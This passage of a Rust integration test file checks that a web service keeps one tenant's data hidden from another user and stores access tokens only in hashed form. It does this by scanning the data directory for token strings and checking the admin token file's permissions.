        (Method::POST, d("rollback"), Some(json!({}))),
        (Method::GET, d("history"), None),
        (Method::GET, d("acceptance"), None),
    ];
    for (method, path, body) in reaches {
        let (status, answer) = call(&server, method.clone(), &path, Some(&mallory), body).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{method} {path}: {answer}");
        assert!(!answer.to_string().contains(secret), "{path}: {answer}");
    }
    // Mallory's lists and her own views hold nothing of Alice's.
    for path in [
        "/v1/needs",
        "/v1/assessments",
        "/v1/deployments",
        "/v1/usage",
        "/v1/profile",
    ] {
        let (_, answer) = call(&server, Method::GET, path, Some(&mallory), None).await;
        let text = answer.to_string();
        assert!(
            !text.contains(secret) && !text.contains(&need_id) && !text.contains(&deployment),
            "{path}: {answer}"
        );
    }
    let (_, needs) = call(&server, Method::GET, "/v1/needs", Some(&mallory), None).await;
    assert_eq!(needs["needs"], json!([]), "{needs}");
    let (_, assessments) = call(
        &server,
        Method::GET,
        "/v1/assessments",
        Some(&mallory),
        None,
    )
    .await;
    assert_eq!(assessments["assessments"], json!([]), "{assessments}");
    // The provider sees the need without Alice's name or sample data.
    let (_, needs) = call(&server, Method::GET, "/v1/needs", Some(&provider), None).await;
    let text = needs.to_string();
    assert!(
        !text.contains("wujiang-dyeing") && !text.contains("pair-17"),
        "{needs}"
    );
    // And Alice still has everything.
    let (status, _) = call(&server, Method::GET, &d("history"), Some(&alice), None).await;
    assert_eq!(status, StatusCode::OK);
}

/// Tokens are stored hashed: after accounts, tokens, a revocation and publishes, no file in
/// the data directory except the first admin's own token file holds any token's secret.
#[tokio::test]
async fn the_data_directory_holds_no_token() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = Server::start_on(&data, &[]);
    let mut secrets = vec![server.admin.clone()];
    for (name, role) in [
        ("acme-digital", "provider"),
        ("wujiang-dyeing", "enterprise"),
        ("expert-li", "reviewer"),
        ("second-admin", "admin"),
    ] {
        secrets.push(server.account(name, role).await);
    }
    let (manifest, wasm) = example(DYE);
    let (status, _) = publish(&server, &secrets[1], DYE, "0.1.0", &manifest, wasm).await;
    assert_eq!(status, StatusCode::CREATED);
    assert!(server.terminate(), "clean shutdown");

    let mut files = 0;
    let mut bytes = 0;
    let mut stack = vec![data.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let content = std::fs::read(&path).unwrap();
            files += 1;
            bytes += content.len();
            if path.file_name().unwrap() == "admin.token" {
                use std::os::unix::fs::PermissionsExt;
                let mode = std::fs::metadata(&path).unwrap().permissions().mode();
                assert_eq!(mode & 0o077, 0, "admin.token is readable by others");
                continue;
            }
            for secret in &secrets {
                // The whole secret, and its random part alone.
                let random = secret.trim_start_matches("smelt_");
                for needle in [secret.as_str(), random] {
                    assert!(
                        !content
                            .windows(needle.len())
                            .any(|w| w == needle.as_bytes()),
                        "{} holds a token",
                        path.display()
                    );
                }
            }
        }
    }
    println!(
        "data directory: {files} files, {bytes} bytes, none holds any of {} tokens",
        secrets.len()
    );
    assert!(files > 2 && bytes > 0);
}
